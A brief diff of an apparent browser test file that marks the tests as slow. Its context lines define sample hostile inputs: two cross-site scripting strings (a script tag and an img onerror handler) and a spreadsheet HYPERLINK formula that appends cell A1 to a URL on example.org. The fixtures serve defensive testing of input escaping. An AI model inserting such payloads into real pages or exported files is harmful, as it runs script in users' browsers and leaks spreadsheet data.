@@ -13,6 +13,8 @@ from tests.browser.conftest import Arrive
 from tests.browser.test_way import opened_report
 from tests.browser.visitor import Visitor
 
+pytestmark = pytest.mark.slow
+
 SCRIPT = "<script>window.ran = 1; alert(1)</script>"
 IMAGE = "<img src=x onerror='window.ran = 2; alert(2)'>"
 FORMULA = '=HYPERLINK("http://example.org/?"&A1;"click")'
